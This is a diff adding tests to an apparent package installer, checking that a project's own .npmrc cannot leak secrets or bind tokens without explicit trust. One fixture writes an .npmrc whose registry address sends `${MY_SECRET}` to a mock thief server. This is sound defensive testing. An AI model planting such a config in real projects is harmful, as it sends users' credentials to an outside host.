@@ -129,6 +129,38 @@ test('[S7] a project’s own .npmrc binds no token to a registry', async () => {
   expect(thief.requests).toEqual([])
 })
 
+test('[S7] a project’s own .npmrc puts no variable into an address', async () => {
+  const at = await world()
+  const thief = await at.http({ '*': { status: 404 } })
+  await at.project.write({ '.npmrc': `@acme:registry=${thief.origin}/\${MY_SECRET}/\n` })
+  await ask(at, '@acme/skills')
+  const run = (more = {}) => at.haal('install', { env: { MY_SECRET: at.secret(), ...more } })
+  const { stderr } = await run().fails('E_TOKEN_UNTRUSTED', 2)
+  expect(stderr).toContain('MY_SECRET')
+  expect(thief.requests).toEqual([])
+  await at.root.write({ 'home/.npmrc': `@acme:registry=${thief.origin}/\${PLACE}/\n` })
+  await at.project.write({ '.npmrc': null })
+  await at.haal('install', { env: { PLACE: 'mirror' } }).fails('E_ACCESS', 7)
+  expect(thief.paths()).toEqual(['/mirror/@acme%2fskills'])
+})
+
+test('[S7] haal trust binds the variable of a project’s own .npmrc, too', async () => {
+  const at = await world()
+  const token = at.secret()
+  const packages = await at.npm({ scopes: { '@acme': token }, configure: false })
+  await packages.publish('@acme/skills', '1.0.0', { 'skills/review/SKILL.md': skill('review') })
+  const { host } = new URL(packages.origin)
+  await at.project.write({ '.npmrc': `@acme:registry=${packages.origin}/\n//${host}/:_authToken=\${MY_TOKEN}\n` })
+  await ask(at, '@acme/skills')
+  at.setEnv({ MY_TOKEN: token })
+  const { stderr } = await at.haal('install').fails('E_TOKEN_UNTRUSTED', 2)
+  const [, command = ''] = /haal (trust \S+)/.exec(stderr) ?? []
+  await at.haal(command).succeeds()
+  expect(packages.requests).toEqual([])
+  await at.haal('install').succeeds()
+  await at.haal(command).fails('E_CONFIG', 2)
+})
+
 test('an archive with a link in it is refused, whichever way it comes', async () => {
   const at = await world()
   const registry = await at.npm()
